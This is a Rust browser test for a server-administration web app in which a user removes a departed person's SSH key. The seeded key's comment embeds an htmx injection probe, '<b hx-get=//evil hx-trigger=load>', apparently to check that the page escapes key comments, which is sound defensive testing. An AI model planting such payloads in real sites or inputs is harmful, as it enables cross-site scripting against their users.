//! A person looks at who there is on a server, and removes a key.

use super::scene;
use crate::harness::hosts::TestHost;

#[actix_web::test]
async fn a_person_removes_the_key_of_somebody_who_left() {
    let test = "a_person_removes_the_key_of_somebody_who_left";
    let prepare = "echo 'from=\"10.0.0.0/8\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f anna <b hx-get=//evil hx-trigger=load>' >>~deploy/.ssh/authorized_keys";
    let Some((browser, system, _app, base)) = scene(test, prepare, TestHost::deploy).await else { return };
    browser.driver.goto(format!("{base}/servers/web-1/accounts?user=deploy")).await.unwrap();
    browser.wait_until("the keys", "return document.querySelectorAll('.account-key').length === 2").await;
    browser.in_every_look("accounts").await;
    browser.click(".account-key:last-of-type a").await;
    browser.wait_until("what changes", "return document.querySelectorAll('.diff p').length > 0").await;
    browser.in_every_look("accounts-key").await;
    browser.click("#edit button[name=confirmed]").await;
    let kept = "return document.querySelector('#key-change')?.textContent.includes('is kept')";
    browser.wait_until("its end", kept).await;
    assert!(!system.run("cat ~deploy/.ssh/authorized_keys").contains("anna"));
    browser.all_is_well("after a change").await;
    browser.keep_picture("accounts-kept-light").await;
    browser.quit().await;
}
